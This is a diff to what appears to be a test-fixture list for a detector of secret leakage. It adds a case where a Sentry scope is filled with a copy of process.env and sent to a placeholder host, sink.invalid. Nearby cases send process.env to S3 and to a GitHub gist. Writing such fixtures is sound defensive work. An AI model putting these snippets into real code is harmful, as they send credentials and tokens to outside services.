@@ -176,6 +176,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       },
     },
     {
+      when: 'a collector of errors is told all of it beside what it is given, under a scope that a function hands out',
+      files: {
+        'index.js': `const Sentry = require('@sentry/node'); function client() { Sentry.init({ dsn: 'https://a@sink.invalid/1' }); return Sentry; } const c = client(); c.withScope(scope => { scope.setContext('env', Object.assign({}, process.env)); c.captureMessage('x'); });`,
+      },
+    },
+    {
       when: 'a gist is made of it',
       files: {
         'index.js': `const { Octokit } = require('octokit'); new Octokit({}).rest.gists.create({ files: { a: { content: JSON.stringify(process.env) } } });`,
